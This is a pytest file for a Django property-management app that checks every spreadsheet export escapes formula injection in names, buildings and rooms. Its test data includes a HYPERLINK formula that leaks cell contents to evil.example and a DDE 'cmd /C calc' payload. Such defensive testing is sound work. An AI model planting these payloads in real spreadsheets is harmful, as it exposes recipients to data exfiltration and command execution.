"""Every spreadsheet the product hands out (.xlsx and .csv), walked with names people typed
themselves (a technician's display name, a resident's name, a building, unit and room number)
that a spreadsheet would run as formulas: no cell may start with = + - @ TAB or CR unescaped,
and the figures stay numbers.

The walk is complete by construction: the module scan below fails when code outside
kit/spreadsheets.py builds a workbook, a tablib dataset or a CSV writer (or asks kit.spreadsheets
for one) in a module the walk does not know, and the URL scan fails for an export-like URL name the walk does not
fetch."""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import Residency
from repairs.models import RepairOrder
from tests.factories import (
    ParcelFactory,
    RepairOrderFactory,
    ResidencyFactory,
    RoomFactory,
    StaffMemberFactory,
    UnitFactory,
    build_billing_world,
)

HOSTILE = {
    "resident": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "technician": "@SUM(1+1)*cmd|' /C calc'!A0",
    "building": "+1栋",
    "unit": "\t-1单元",
    "room": " =1+1",
}
# What a spreadsheet would run: the helper's own rule, written out again here.
UNESCAPED = re.compile(r"^(?:[\t\r]|\s*[=+\-@])")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 139", "'+86 139"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\u3000=1", "'\u3000=1"),  # the ideographic space of Chinese input methods
        ("张=伟", "张=伟"),
        ("3栋", "3栋"),
        ("", ""),
        ("a\x07b", "ab"),  # a control character openpyxl refuses
        ("'quoted", "'quoted"),
        (12, 12),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_the_helper_escapes_formulas_and_keeps_numbers(value, expected):
    from kit import spreadsheets

    assert spreadsheets.safe_cell(value) == expected


# --- The walk ----------------------------------------------------------------------------------


@pytest.fixture
def hostile(community, positions):
    """A room of a building, unit and number typed as formulas, its owner named like one, and
    a technician (named like one) who completed an order there yesterday."""
    room = RoomFactory(
        building__community=community,
        building__name=HOSTILE["building"],
        unit=UnitFactory(building__community=community, name=HOSTILE["unit"]),
        number=HOSTILE["room"],
        floor=1,
    )
    room.unit.building = room.building
    room.unit.save()
    owner = ResidencyFactory(room=room, user__display_name=HOSTILE["resident"])
    technician = StaffMemberFactory(
        communities=[community], position_name="维修工", user__display_name=HOSTILE["technician"]
    )
    done = timezone.now() - dt.timedelta(days=1)
    repaired = RepairOrderFactory(
        household=owner,
        status=RepairOrder.Status.COMPLETED,
        technician=technician,
        created_at=done - dt.timedelta(hours=3),
        accepted_at=done - dt.timedelta(hours=3),
        assigned_at=done - dt.timedelta(hours=2),
        completed_at=done,
        technician_response_seconds=600,
        technician_finish_seconds=3600,
        finished_on_time=True,
    )
    # --- repairs: the household rated the repair, its comment typed as a formula.
    from repairs.models import RepairRating

    RepairRating.objects.create(
        order=repaired, speed=5, quality=4, attitude=5, comment=HOSTILE["resident"]
    )
    from repairs import rollup

    rollup.order_changed(repaired)  # the daily figures, as order_rate keeps them
    build_billing_world(community, room)
    ParcelFactory(household=owner, recipient_name=HOSTILE["resident"])
    # --- services: attendance --- the owner signed up for an activity, named as a formula.
    from tests.services.attendance_helpers import make_activity, make_signup

    activity = make_activity(community, fields=[{"label": HOSTILE["unit"]}])
    make_signup(activity, owner, names=(HOSTILE["resident"],), answers={HOSTILE["unit"]: "=1+1"})
    # --- complaints --- the owner complained about their room, named as a formula.
    from tests.factories import ComplaintFactory

    ComplaintFactory(household=owner, contact_name=HOSTILE["resident"])
    # --- complaints: suggestions --- the owner's suggestion, titled like a formula.
    from tests.factories import SuggestionFactory

    SuggestionFactory(household=owner, title=HOSTILE["resident"][:60], body=HOSTILE["room"])
    return {"room": room, "owner": owner, "activity": activity}


def _last_month() -> dt.date:
    return (timezone.localdate().replace(day=1) - dt.timedelta(days=1)).replace(day=1)


def _counter_cashier() -> int:
    from billing.models import Payment

    return Payment.objects.filter(cashier__isnull=False).values_list("cashier_id", flat=True)[0]


def _period() -> dict[str, str]:
    today = timezone.localdate()
    return {
        "period": "custom",
        "start": f"{today - dt.timedelta(days=7):%Y-%m-%d}",
        "end": f"{today:%Y-%m-%d}",
    }


# Every export: its URL name, the query that asks for the file, its format, and the hostile
# values the file must contain (escaped). A new export is added here (see the scans below).
EXPORTS = [
    ("repairs_staff:performance", lambda: {**_period(), "export": "xlsx"}, "xlsx",
     {"technician"}),
    ("repairs_staff:performance", lambda: {**_period(), "export": "csv"}, "csv",
     {"technician"}),
    ("repairs_staff:queue_export", lambda: {"status": "all"}, "xlsx", {"technician"}),
    ("repairs_staff:ratings_export", dict, "xlsx", {"technician", "resident"}),
    ("staff_residents:residents_export", dict, "xlsx",
     {"resident", "building", "unit", "room"}),
    ("staff_residents:import_rooms_template", dict, "xlsx", set()),
    ("staff_residents:import_residents_template", dict, "xlsx", set()),
    ("billing_staff:reports", lambda: {"month": f"{_last_month():%Y-%m}", "export": "xlsx"},
     "xlsx", {"building"}),
    # The day of the cashier who took the hostile world's payment (today).
    ("billing_staff:cashier_day_export", lambda: {"cashier": _counter_cashier()}, "xlsx",
     {"building", "unit", "room"}),
    ("billing_staff:readings_import",
     lambda: {"template": "1", "kind": "water", "month": f"{_last_month():%Y-%m}"}, "xlsx",
     {"building", "unit", "room"}),
    # billing: bills as filtered, arrears per household, payments (issue 19)
    ("billing_staff:bills_export", dict, "xlsx", {"resident", "building", "unit", "room"}),
    ("billing_staff:arrears_export", dict, "xlsx", {"resident", "building", "unit", "room"}),
    ("billing_staff:payments_export", dict, "xlsx", {"building", "unit", "room"}),
    ("services_staff:parcel_export", dict, "xlsx", {"resident"}),
    ("services_staff:activity_export", dict, "xlsx", {"resident", "building", "unit", "room"}),
    ("complaints_staff:export", dict, "xlsx", {"resident"}),
    ("complaints_staff:suggestion_export", dict, "xlsx", {"resident", "room"}),
    ("complaints_staff:figures", lambda: {"export": "xlsx"}, "xlsx", set()),
    # platform_admin: usage (PSTA-1), operators only
    ("admin:platform_usage_export", dict, "xlsx", set()),
    # Operators' pages (admin:*) are fetched as the operator.
    ("admin:platform_business", lambda: {"period": "year", "export": "xlsx"}, "xlsx", set()),
]  # fmt: skip
# The objects an export's URL names, from the hostile world.
URL_ARGS = {
    "services_staff:activity_export": lambda hostile: [hostile["activity"].pk],
}


def _cells(content: bytes, kind: str) -> list[tuple[str, object, bool]]:
    """(where, value, is a formula) for every non-empty cell of the file."""
    if kind == "csv":
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        return [
            (f"row {r} col {c}", value, False)
            for r, row in enumerate(rows, start=1)
            for c, value in enumerate(row, start=1)
            if value != ""
        ]
    book = load_workbook(io.BytesIO(content))
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type == "f")
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.dates
@pytest.mark.req("X-1")
@pytest.mark.parametrize(
    ("name", "query", "kind", "expected"),
    EXPORTS,
    ids=[f"{name}-{kind}" for name, _q, kind, _e in EXPORTS],
)
def test_no_export_carries_a_live_formula(client_for, manager, operator, hostile, name, query,
                                          kind, expected):  # fmt: skip
    args = URL_ARGS[name](hostile) if name in URL_ARGS else []
    user = operator if name.startswith("admin:") else manager
    response = client_for(user).get(reverse(name, args=args), query())
    assert response.status_code == 200, response.content[:300]
    assert "attachment" in response["Content-Disposition"]
    cells = _cells(response.content, kind)
    assert cells, "an empty export proves nothing"
    live = [
        (where, value)
        for where, value, formula in cells
        if formula or (isinstance(value, str) and UNESCAPED.match(value))
    ]
    assert live == [], f"{name} ({kind}) writes text that runs as a formula: {live}"
    texts = {value for _where, value, _f in cells if isinstance(value, str)}
    for key in expected:
        assert "'" + HOSTILE[key] in texts, f"{name} ({kind}) lost the {key} {HOSTILE[key]!r}"


@pytest.mark.dates
def test_the_technician_export_keeps_the_figures_as_numbers(client_for, manager, hostile):
    response = client_for(manager).get(
        reverse("repairs_staff:performance"), {**_period(), "export": "xlsx"}
    )
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    row = next(row for row in rows if row[0] == "'" + HOSTILE["technician"])
    assert row[1:4] == (1, 10.0, 1.0)  # completed, minutes to accept, hours to finish


# --- Completeness ------------------------------------------------------------------------------

# Modules that write spreadsheets; each one's files are fetched by EXPORTS above.
EXPORTING_MODULES = {
    "staff/resources.py",  # residents export, import templates
    "billing/imports/meter_readings.py",  # meter readings template
    "billing/views/reports.py",  # collection report; bills, arrears and payments
    "billing/views/counter.py",  # the cashier's day
    "repairs/views/performance.py",  # technician performance
    "repairs/views/desk.py",  # the repair queue and the ratings
    "services/parcels/views_staff.py",  # parcels on the shelves
    "services/attendance/views_staff.py",  # an activity's participants
    "complaints/handling/views_staff.py",  # the complaint queue
    "complaints/suggestions/views_staff.py",  # suggestions
    "complaints/figures/views_staff.py",  # complaint and suggestion figures
    "platform_admin/usage/views.py",  # user statistics
    "platform_admin/business/views.py",  # business statistics (PSTA-2)
}
SPREADSHEET_WRITER = re.compile(
    r"\bWorkbook\(|\btablib\.Dataset\(|\bcsv\.(?:Dict)?[wW]riter\("
    r"|\bspreadsheets\.(?:dataset|workbook|template)\("
)


def test_every_module_that_writes_a_spreadsheet_is_walked():
    root = Path(settings.BASE_DIR)
    writers = set()
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "node_modules/", "tests/")) or "/migrations/" in relative:
            continue
        if SPREADSHEET_WRITER.search(path.read_text(encoding="utf-8")):
            writers.add(relative)
    assert writers - {"kit/spreadsheets.py"} <= EXPORTING_MODULES, (
        "a new module writes a spreadsheet: write its cells through kit.spreadsheets and "
        "add its URL to EXPORTS in tests/test_exports.py"
    )
    for module in EXPORTING_MODULES:
        text = (root / module).read_text(encoding="utf-8")
        assert "spreadsheets." in text, f"{module} writes cells without kit.spreadsheets"


def test_every_export_url_is_walked():
    def names(resolver, namespace=""):
        for entry in resolver.url_patterns:
            if isinstance(entry, URLResolver):
                inner = ":".join(filter(None, [namespace, entry.namespace]))
                yield from names(entry, inner)
            elif isinstance(entry, URLPattern) and entry.name:
                yield f"{namespace}:{entry.name}" if namespace else entry.name

    # Not spreadsheets: a person's own recovery codes as plain text (allauth.mfa).
    not_sheets = {"mfa_download_recovery_codes"}
    looks_like_export = {
        name
        for name in names(get_resolver())
        if not name.startswith("admin:")
        and name not in not_sheets
        and re.search(r"export|download|_template$", name)
    }
    walked = {name for name, *_rest in EXPORTS}
    assert looks_like_export <= walked, (
        f"export URLs not walked by tests/test_exports.py: {sorted(looks_like_export - walked)}"
    )


def test_the_hostile_room_is_the_owners(hostile):
    # The fixture's objects are what the exports read: a guard against a silent empty walk.
    assert hostile["owner"].status == Residency.Status.VERIFIED
    assert hostile["room"].unit.name == HOSTILE["unit"]


@pytest.mark.dates
def test_a_prefilled_template_reads_back_the_names_it_escaped(hostile, community):
    """The meter-reading template is prefilled with the rooms and uploaded again: a room
    numbered -101 (a basement) must still be room -101 when the sheet comes back."""
    from billing.imports import meter_readings as imports
    from kit import spreadsheets

    content = imports.template_workbook(community=community, kind="water", month=_last_month())
    rows = [row.values for row in spreadsheets.read(content, imports.COLUMNS, max_rows=10).rows]
    assert (rows[0]["building"], rows[0]["unit"], rows[0]["number"]) == (
        HOSTILE["building"],
        HOSTILE["unit"],
        HOSTILE["room"],
    )


def test_the_helper_reads_back_what_it_escaped():
    from kit import spreadsheets

    for value in ["=1+1", "-101", "\t-1", " =x", "'plain", "3栋", 7]:
        assert spreadsheets.read_cell(spreadsheets.safe_cell(value)) == value
